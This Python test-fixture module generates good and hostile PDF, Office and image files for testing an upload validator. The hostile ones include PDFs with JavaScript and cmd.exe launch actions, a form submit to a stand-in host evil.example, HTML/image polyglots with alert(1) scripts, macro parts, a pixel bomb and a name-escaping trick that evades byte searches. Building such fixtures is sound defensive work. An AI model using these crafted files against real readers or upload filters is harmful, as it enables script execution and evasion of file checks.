"""A corpus of crafted files, generated on the fly (nothing binary is checked in).

Each builder returns bytes. Good files are written by real writers (pypdf,
zipfile with the parts Office writes, Pillow); hostile ones are the shapes an
assessor tried against the portal (issue 14) plus the rest of each rule.
"""

import io
import zipfile

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)


# --------------------------------------------------------------------------- PDF
def _write(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_good() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    return _write(writer)


def pdf_with_goto_open_action() -> bytes:
    """Harmless: "open at page 1" is a destination, not a script."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=612, height=792)
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [page.indirect_reference, NameObject("/Fit")]
    )
    return _write(writer)


def pdf_with_javascript_open_action() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('x')"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _write(writer)


def pdf_with_document_javascript() -> bytes:
    """JavaScript in the document's names tree (runs on open), no /OpenAction."""
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    action = writer._add_object(
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('x');"),
            }
        )
    )
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("startup"), action])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )
    return _write(writer)


def pdf_with_launch_action() -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(width=612, height=792)
    launch = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
        }
    )
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
            NameObject("/A"): launch,
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _write(writer)


def pdf_with_page_open_action(action="/SubmitForm") -> bytes:
    """An additional action (/AA) on a page that runs when the page opens."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=612, height=792)
    page[NameObject("/AA")] = DictionaryObject(
        {
            NameObject("/O"): DictionaryObject(
                {
                    NameObject("/S"): NameObject(action),
                    NameObject("/F"): TextStringObject("https://evil.example/"),
                    NameObject("/URI"): TextStringObject("https://evil.example/"),
                }
            )
        }
    )
    return _write(writer)


def pdf_with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    writer.add_attachment("payload.exe", b"MZ\x90\x00")
    return _write(writer)


def pdf_encrypted() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")
    return _write(writer)


def pdf_without_pages() -> bytes:
    return _write(PdfWriter())


def pdf_header_then_html() -> bytes:
    return b"%PDF-1.7\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n"


def html_then_pdf() -> bytes:
    """The polyglot stored as a letter: HTML first, a real PDF after it."""
    return b"<html><script>alert(1)</script></html>\n" + pdf_good()


def pdf_then_html() -> bytes:
    return pdf_good() + b"<html><script>alert(1)</script>" + b" " * 200 + b"</html>"


def pdf_truncated() -> bytes:
    return pdf_good()[:120]


# --------------------------------------------------------------------------- Office
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="{target}"/></Relationships>'
)


def _content_types(part: str, content_type: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{content_type}"/>'
        "</Types>"
    )


def _zip(parts: dict[str, bytes | str], *, encrypt_flag: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    data = buffer.getvalue()
    if encrypt_flag:
        # Set the "encrypted" bit in every local and central header, as a
        # password-protected archive has it.
        data = bytearray(data)
        for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            start = 0
            while (at := data.find(signature, start)) >= 0:
                data[at + offset] |= 0x1
                start = at + 4
        data = bytes(data)
    return data


def docx_parts(**extra) -> dict:
    parts = {
        "[Content_Types].xml": _content_types("word/document.xml", DOCX_MAIN),
        "_rels/.rels": RELS.format(target="word/document.xml"),
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w='
            '"http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
            "<w:r><w:t>Agenda</w:t></w:r></w:p></w:body></w:document>"
        ),
    }
    parts.update(extra)
    return parts


def docx_good() -> bytes:
    return _zip(docx_parts())


def xlsx_good() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": _content_types("xl/workbook.xml", XLSX_MAIN),
            "_rels/.rels": RELS.format(target="xl/workbook.xml"),
            "xl/workbook.xml": (
                '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns='
                '"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>'
            ),
        }
    )


def docx_fake_part_names() -> bytes:
    """The zip stored in production: the right names, none of the right content."""
    return _zip({"[Content_Types].xml": "<x/>", "word/document.xml": "<x/>"})


def docx_undeclared_main_part() -> bytes:
    parts = docx_parts()
    parts["[Content_Types].xml"] = _content_types("word/other.xml", DOCX_MAIN)
    return _zip(parts)


def docx_with_macros() -> bytes:
    return _zip(docx_parts(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}))


def docx_with_embedded_object() -> bytes:
    return _zip(docx_parts(**{"word/embeddings/oleObject1.xlsx": b"PK\x03\x04"}))


def docx_encrypted_members() -> bytes:
    return _zip(docx_parts(), encrypt_flag=True)


def docx_corrupt_member() -> bytes:
    data = bytearray(docx_good())
    # Flip bytes inside the compressed document part: the CRC no longer matches.
    at = data.find(b"word/document.xml") + len("word/document.xml") + 10
    for i in range(at, at + 8):
        data[i] ^= 0xFF
    return bytes(data)


def docx_broken_xml() -> bytes:
    return _zip(docx_parts(**{"word/document.xml": "<w:document><unclosed>"}))


def junk_then_docx() -> bytes:
    return b"<html>hello</html>" + docx_good()


# --------------------------------------------------------------------------- images
def _image(fmt: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, format=fmt)
    return buffer.getvalue()


def png_good() -> bytes:
    return _image("PNG")


def jpeg_good() -> bytes:
    return _image("JPEG")


def png_header_then_html() -> bytes:
    """The file stored in production: a PNG signature and then an HTML page."""
    return b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>"


def png_then_html() -> bytes:
    return png_good() + b"<html><script>alert(1)</script>" + b" " * 100 + b"</html>"


def jpeg_then_html() -> bytes:
    return jpeg_good() + b"<html><script>alert(1)</script>" + b" " * 100 + b"</html>"


def png_truncated() -> bytes:
    return png_good()[:40]


def png_pixel_bomb() -> bytes:
    """A tiny file that declares a 100,000 x 100,000 image."""
    buffer = io.BytesIO()
    Image.new("1", (1, 1)).save(buffer, format="PNG")
    data = bytearray(buffer.getvalue())
    # IHDR width/height live at bytes 16..24; the CRC mismatch alone would also refuse it.
    data[16:24] = (100_000).to_bytes(4, "big") * 2
    return bytes(data)


# --------------------------------------------------------------------------- other
def exe() -> bytes:
    return b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode."


def html() -> bytes:
    return b"<!DOCTYPE html><html><script>alert(1)</script></html>"


def pdf_javascript_with_escaped_names() -> bytes:
    """/J#61vaScript is /JavaScript to a PDF reader but not to a byte search."""
    data = pdf_with_document_javascript()
    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")


def content_stream_pdf() -> bytes:
    """A page with real text drawn on it (not blank), to show content is fine."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=612, height=792)
    stream = DecodedStreamObject()
    stream.set_data(b"BT /F1 12 Tf 72 720 Td (Letter of commitment) Tj ET")
    page[NameObject("/Contents")] = writer._add_object(stream)
    return _write(writer)
